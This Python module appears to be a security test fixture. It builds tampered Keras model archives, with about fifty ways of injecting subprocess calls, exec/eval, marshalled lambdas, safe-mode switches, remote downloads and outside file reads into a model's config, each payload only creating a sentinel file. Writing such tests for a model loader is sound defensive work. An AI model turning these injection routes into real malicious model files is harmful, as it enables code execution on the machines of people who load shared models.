"""Model files that mean harm: what is known to have run code, or read files, on some version of Keras, and its kin.

Each attack takes the config of a harmless model, and the path of a file that appears when code runs.
"""

import json
import marshal
import shlex
import sys
import types
import zipfile
from base64 import b64encode
from pathlib import Path


def python_line(sentinel: Path) -> str:
    return f"open({str(sentinel)!r}, 'w').close()"


def command(sentinel: Path) -> list[str]:
    return [sys.executable, "-c", python_line(sentinel)]


def function(module, name, registered="function") -> dict:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered}


def thing(module, name, /, registered=None, **config) -> dict:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def lambda_value(sentinel: Path) -> dict:
    """A lambda as Keras writes it: its compiled code, which runs when the layer is called."""
    code = compile(f"lambda x: (exec({python_line(sentinel)!r}), x)[1]", "m", "eval").co_consts[0]
    assert isinstance(code, types.CodeType)
    return {"class_name": "__lambda__", "config": {"value": [b64encode(marshal.dumps(code)).decode(), None, None]}}


def called(what: dict, *args, **kwargs) -> dict:
    """As a layer of a functional model that is called with these arguments while the model is built."""
    return {**what, "name": "harm", "inbound_nodes": [{"args": list(args), "kwargs": kwargs}]}


def inserted(make):
    """The attack as one more layer of the model."""

    def attack(config: dict, sentinel: Path) -> None:
        config["config"]["layers"].append({"name": "harm", "inbound_nodes": [], **make(sentinel)})

    return attack


def popen(sentinel: Path) -> dict:
    return thing("subprocess", "Popen", args=command(sentinel))


def layers_of(config: dict) -> list[dict]:
    return config["config"]["layers"]


def classifier(config: dict) -> dict:
    return layers_of(config)[-1]


def within_base(config: dict, sentinel: Path) -> None:
    base = next(layer for layer in layers_of(config) if layer["class_name"] == "Functional")
    inserted(lambda s: called(function("subprocess", "Popen"), command(s)))(base, sentinel)


def placed(*keys):
    """The attack in place of something inside the classifier, such as its activation."""

    def attack(config: dict, sentinel: Path) -> None:
        place = classifier(config)
        for key in keys[:-1]:
            place = place.setdefault(key, {})
        place[keys[-1]] = popen(sentinel)

    return attack


def on_top(key, make=popen):
    def attack(config: dict, sentinel: Path) -> None:
        config[key] = make(sentinel)

    return attack


def replaced(make):
    """The attack in place of the whole model."""

    def attack(config: dict, sentinel: Path) -> None:
        config.clear()
        config.update(make(sentinel))

    return attack


def with_argument(kind, make=popen):
    def attack(config: dict, sentinel: Path) -> None:
        node = classifier(config)["inbound_nodes"][0]
        node["args"].append(make(sentinel)) if kind == "args" else node["kwargs"].update(mask=make(sentinel))

    return attack


def wrapped(wrapper):
    return inserted(lambda sentinel: thing("keras.layers", wrapper, layer=popen(sentinel)))


def typespec(sentinel: Path) -> dict:
    return {**thing("subprocess", "__typespec__"), "spec_name": "Popen", "config": command(sentinel)}


def legacy(config: dict, sentinel: Path) -> None:
    layer = {"class_name": "Lambda", "name": "harm", "inbound_nodes": [], "config": {"name": "harm"}}
    layers_of(config).append(layer)
    layer["config"]["function"] = lambda_value(sentinel)["config"]["value"]


def renamed(config: dict, sentinel: Path) -> None:
    classifier(config)["registered_name"] = "somebody>Evil"


def download(sentinel: Path) -> dict:
    return {"origin": Path(__file__).as_uri(), "cache_dir": str(sentinel.parent), "cache_subdir": "."}


def called_lambda(what: dict, arguments: dict, inputs) -> dict:
    """No lambda in it: the layer is only a way to call a function of Keras."""
    layer = thing("keras.layers", "Lambda", name="harm", function=what, arguments=arguments)
    return called({**layer, "build_config": {"input_shape": [None, 10]}}, inputs=inputs)


def switched_off() -> dict:
    state = function("keras.src.backend.common.global_state", "set_global_attribute")
    return called_lambda(state, {"value": False}, "safe_mode_saving")


ATTACKS = {
    "Popen as a function": inserted(lambda s: called(function("subprocess", "Popen"), command(s), bufsize=-1)),
    "Popen as a class": inserted(popen),
    "run": inserted(lambda s: called(function("subprocess", "run"), command(s))),
    "os.system": inserted(lambda s: called(function("os", "system"), shlex.join(command(s)))),
    "exec": inserted(lambda s: called(function("builtins", "exec"), python_line(s))),
    "eval, named after itself": inserted(lambda s: called(function("builtins", "eval", "eval"), python_line(s))),
    "timeit": inserted(lambda s: called(function("timeit", "timeit"), python_line(s))),
    "a lambda": inserted(lambda s: called(thing("keras.layers", "Lambda", function=lambda_value(s)), 1)),
    "a lambda by its inner name": inserted(
        lambda s: thing("keras.src.layers.core.lambda_layer", "Lambda", function=lambda_value(s))
    ),
    "a lambda of the old format": legacy,
    "a lambda as activation": lambda c, s: classifier(c)["config"].update(activation=lambda_value(s)),
    "safe mode switched off": inserted(lambda s: called(function("keras.config", "enable_unsafe_deserialization"))),
    "safe mode switched off in a Lambda": inserted(lambda s: switched_off()),
    "safe mode switched off, then a lambda": lambda c, s: layers_of(c).extend(
        [switched_off(), {**called(thing("keras.layers", "Lambda", function=lambda_value(s)), 1), "name": "more"}]
    ),
    "another model in a Lambda": inserted(
        lambda s: called_lambda(
            function("keras.models", "load_model"), {"safe_mode": False}, str(s.parent / "other.keras")
        )
    ),
    "get_file": inserted(lambda s: called(function("keras.utils", "get_file"), s.name, **download(s))),
    "get_file in a Lambda": inserted(lambda s: called_lambda(function("keras.utils", "get_file"), download(s), s.name)),
    "func_load": inserted(lambda s: called(function("keras.src.utils.python_utils", "func_load"), "", None, None)),
    "a SavedModel": inserted(lambda s: thing("keras.layers", "TFSMLayer", filepath=str(s.parent))),
    "a module of PyTorch": inserted(lambda s: thing("keras.layers", "TorchModuleWrapper", module=popen(s))),
    "a module of Flax": inserted(lambda s: thing("keras.layers", "FlaxLayer", module=popen(s))),
    "a function of JAX": inserted(lambda s: thing("keras.layers", "JaxLayer", call_fn=popen(s))),
    "a vocabulary elsewhere": inserted(lambda s: thing("keras.layers", "StringLookup", vocabulary=__file__)),
    "another vocabulary elsewhere": inserted(lambda s: thing("keras.layers", "TextVectorization", vocabulary=__file__)),
    "numbers elsewhere": inserted(lambda s: thing("keras.layers", "IntegerLookup", vocabulary=__file__)),
    "a type of TensorFlow": with_argument("kwargs", typespec),
    "a function mapped": inserted(lambda s: thing("keras.src.ops.core", "Map", function=popen(s))),
    "layers in a Pipeline": inserted(lambda s: thing("keras.layers", "Pipeline", layers=[popen(s)])),
    "in a nested model": within_base,
    "in a nested Sequential": inserted(lambda s: thing("keras", "Sequential", layers=[popen(s)])),
    "in TimeDistributed": wrapped("TimeDistributed"),
    "in Bidirectional": wrapped("Bidirectional"),
    "as activation": placed("config", "activation"),
    "as initializer": placed("config", "kernel_initializer"),
    "as regularizer": placed("config", "kernel_regularizer"),
    "as constraint": placed("config", "bias_constraint"),
    "as dtype policy": placed("config", "dtype"),
    "inside an initializer": placed("config", "kernel_initializer", "config", "seed"),
    "in build_config": placed("build_config", "input_shape"),
    "as argument of a layer": with_argument("args"),
    "as keyword of a layer": with_argument("kwargs"),
    "as optimizer": on_top("compile_config", lambda s: {"optimizer": popen(s)}),
    "as loss": on_top("compile_config", lambda s: {"loss": function("subprocess", "Popen")}),
    "as metric": on_top("compile_config", lambda s: {"metrics": [["accuracy", popen(s)]]}),
    "a registered name": renamed,
    "instead of the model": replaced(popen),
    "a layer instead of the model": replaced(lambda s: thing("keras.layers", "Dense", units=popen(s))),
    "a name that is no text": inserted(lambda s: thing("keras.layers", ["Dense"])),
    "a module that is no text": inserted(lambda s: thing(["keras.layers"], "Dense")),
    "a huge text as an array": inserted(
        lambda s: {"class_name": "__numpy__", "config": {"value": ["a"], "dtype": "U200000000"}}
    ),
}


def rewrite(source: Path, target: Path, **changed: bytes | None) -> Path:
    """A copy of an archive, with right checksums and other contents: config=…, weights=…; None leaves one out.

    Without the digests: whoever means harm can compute them, too.
    """
    names = {"config": "config.json", "weights": "model.weights.h5", "names": "class_names.json"}
    names["metadata"] = "metadata.json"
    contents = {names[key]: content for key, content in changed.items()}
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            content = contents.get(name, old.read(name))
            if content is not None and name != "digests.json":
                new.writestr(name, content)
    return target


def attacked(source: Path, target: Path, name: str, sentinel: Path) -> Path:
    """A copy of a model's file with one of the attacks inside."""
    with zipfile.ZipFile(source) as archive:
        config = json.loads(archive.read("config.json"))
    ATTACKS[name](config, sentinel)
    return rewrite(source, target, config=json.dumps(config).encode())
